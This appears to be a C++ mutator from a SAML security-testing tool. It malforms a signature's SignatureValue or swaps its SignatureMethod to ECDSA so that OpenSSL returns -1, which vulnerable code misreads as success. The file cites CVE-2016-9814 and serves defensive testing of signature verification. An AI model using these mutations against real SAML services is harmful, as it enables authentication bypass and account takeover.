// SPDX-License-Identifier: Apache-2.0
// signature.value_malformed — input that makes signature verification error out instead of fail
// (SimpleSAMLphp CVE-2016-9814, php-saml GHSA-9wrw-p9rm-r782; SIG-VERIFY-ERROR): a SignatureValue
// that is not base64, one byte long or the wrong length for the key, or an ECDSA SignatureMethod
// over an RSA key. OpenSSL then returns -1, which code that tests "!= 0" takes as success.
// xmldsig-core §4.2 and §6.4: only a verification that returns valid counts.
#include "mutators/signature/signature.hpp"
#include "samlt/core/codec.hpp"
#include "samlt/core/random.hpp"

namespace samlt::idp::mutators {

// Params: form (non_base64 | one_byte | wrong_length | method_ecdsa), target (assertion | response).
core::Result<void> signature_value_malformed(Target& target) {
  auto form = xsw::choice_param(target, "form", "non_base64|one_byte|wrong_length|method_ecdsa", "non_base64");
  if (!form) {
    return core::fail(form.error());
  }
  auto signature = sig::chosen_signature(target);
  if (!signature) {
    return core::fail(signature.error());
  }
  xmlNode* value = sig::part(*signature, "SignatureValue");
  xmlNode* method = sig::part(*signature, "SignatureMethod");
  if (value == nullptr || method == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "the Signature has no SignatureValue");
  }
  if (*form == "non_base64") {
    core::set_text(value, "!!!!");
  } else if (*form == "one_byte") {
    core::set_text(value, core::base64_encode(core::random_bytes(1)));
  } else if (*form == "wrong_length") {
    core::set_text(value, core::base64_encode(core::random_bytes(255)));  // a 2048-bit key signs 256 bytes
  } else {
    core::set_attribute(method, "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256");
  }
  return {};
}

}  // namespace samlt::idp::mutators
